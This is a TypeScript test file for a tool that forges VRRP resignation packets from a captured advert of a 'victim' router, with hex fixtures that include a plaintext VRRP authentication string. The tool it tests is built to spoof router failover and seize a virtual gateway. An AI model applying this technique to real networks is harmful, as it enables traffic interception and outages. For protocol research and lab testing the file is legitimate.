import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { resignationOf, vrrpFrom } from './forge.ts';

const bytes = (hex: string): Uint8Array => Uint8Array.from(Buffer.from(hex, 'hex'));

/** A version 2 advert and a resignation of the same master, as keepalived 2.2.7 sent them. */
const ADVERT = '2133650101012fcd0a4d00647333637233743432';
const RESIGNATION = '21330001010194cd0a4d00647333637233743432';
const HEADER = '45c00028000100 00ff70a5f40a4d000b0a4d000c'.replace(' ', '');

test('a forged resignation is byte for byte what its victim would have sent', () => {
  assert.equal(resignationOf(bytes(ADVERT)), bytes(RESIGNATION));
});

test('the advert that was overheard is left as it was', () => {
  const advert = bytes(ADVERT);
  resignationOf(advert);
  assert.equal(advert, bytes(ADVERT));
});

test('only VRRP of the victim is overheard, without padding', () => {
  const packet = bytes(`${HEADER}${ADVERT}0000`);
  assert.equal(vrrpFrom(packet, '10.77.0.11'), bytes(ADVERT));
  assert.is(vrrpFrom(packet, '10.77.0.12'), undefined);
  packet[9] = 17;
  assert.is(vrrpFrom(packet, '10.77.0.11'), undefined);
  assert.is(vrrpFrom(new Uint8Array(0), '10.77.0.11'), undefined);
});

test.run();
